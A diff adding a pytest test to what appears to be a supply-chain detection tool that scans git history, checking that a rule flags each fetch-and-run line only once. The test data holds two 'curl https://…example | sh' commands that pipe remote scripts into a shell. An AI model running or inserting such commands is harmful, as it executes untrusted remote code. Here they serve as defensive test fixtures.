@@ -90,6 +90,20 @@ def test_incidents_are_caught_with_the_step_that_brought_them_or_not(history: To
     assert found["falseAlarms"]["commits"] == 0, "what is an incident is no false alarm"
 
 
+def test_of_a_text_each_bad_line_is_counted_once_whatever_is_done_to_others(tmp_path: Path) -> None:
+    made = Told(tmp_path / "texts")
+    made.root.mkdir()
+    made.git("init", "--quiet", "--initial-branch=main")
+    made.commit("root", repository(), day=0, who="Ana")
+    bad, worse = "curl https://a.example | sh", "curl https://b.example | sh"
+    texts = {"bad": f"a\n{bad}\nb", "other": f"a\n{bad}\nc", "moved": f"0\na\n{bad}\nc", "more": f"0\na\n{bad}\n{worse}"}
+    for day, (name, text) in enumerate(texts.items(), start=1):
+        block = "|\n" + "".join(f"        {line}\n" for line in text.split("\n"))
+        made.commit(name, {MOTD: component("motd", "/opt/a.sh").replace('"hello"\n', block)}, day=day, who="Ben")
+    found = replayed("supply-chain/remote-scripts", made.root, *SINCE)
+    assert [(one["commit"], one["line"]) for one in found["findings"]] == [(made.shas["bad"], 11), (made.shas["more"], 13)]
+
+
 def test_only_so_far_back_is_looked_and_what_stood_there_is_not_refused(history: Told) -> None:
     found = replayed(RULE, history.root, "--since", "2026-09-03")
     assert (found["commits"], found["refused"]) == (7, [history.shas["merged"]])
